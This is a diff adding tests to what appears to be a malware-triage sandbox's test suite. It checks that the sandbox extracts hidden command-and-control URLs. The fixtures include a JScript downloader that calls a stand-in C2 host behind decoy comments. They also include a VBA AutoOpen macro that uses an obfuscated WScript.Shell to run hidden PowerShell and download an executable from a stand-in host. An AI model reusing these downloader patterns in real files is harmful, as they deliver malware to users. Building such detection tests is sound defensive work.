@@ -18,6 +18,7 @@ from athena_lab.lab import open_lab
 from athena_lab.many import triage_many
 from athena_lab.report import Report
 from athena_lab.report.tree import walk
+from tests.wasm_modules import documents
 
 EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
 PLAIN = b"A text that says nothing at all.\n" * 20
@@ -84,6 +85,30 @@ async def test_what_files_inside_lead_to_is_told_by_the_whole(lab):
     assert frame[frame["kind"] == "url"][["value", "source", "count"]].to_numpy().tolist() == [[url, "file mail", 1]]
     assert "leads to hxxp[://]hidden-in-the-archive[.]biz/stage2.php" in str(report)
     assert Report.from_json(report.to_json()).children == report.children
+
+
+async def test_decoys_do_not_hide_where_a_file_inside_leads_to(lab):
+    """What a script asks for in its run is told before what only stands in its bytes."""
+    decoys = "".join(f"// http://decoy-{number}.biz/{number}\n" for number in range(60))
+    script = f"""{decoys}var x = new ActiveXObject("MSXML2.XMLHTTP");
+        x.open("GET", ["ht", "tp://", "real-c2", "-host.net/a?", Array(700).join("b")].join(""), false); x.send();"""
+    (node,) = (await lab.triage(zipped(**{"a.js": script.encode()}))).children
+    assert node.leads[0].value.startswith("http://real-c2-host.net/a?bbb")
+    assert (len(node.leads), node.leads_left_out > 20) == (32, True)
+
+
+async def test_the_source_of_macros_is_run_and_undone_like_any_script(lab):
+    """It is packed in a document, and would only be read there."""
+    macro = """Sub AutoOpen()
+      Dim shell: Set shell = CreateObject(StrReverse("llehS.tpircSW"))
+      shell.Run "powershell -w hidden iwr " & Chr(104) & "ttp://macro-" & "stage.biz/a.exe -OutFile a.exe", 0
+    End Sub
+    """
+    report = await lab.triage(documents.compound({"VBA": b"", "Module1": documents.vba_module(macro)}))
+    (node,) = [node for node in report.children if node.kind == "source"]
+    assert "http://macro-stage.biz/a.exe" in [lead.value for lead in node.leads]
+    assert node.level in {"suspicious", "malicious-looking"}
+    assert any(finding.id.startswith("sandbox/") for finding in node.worst)
 
 
 async def test_the_same_bytes_are_analysed_once(lab):
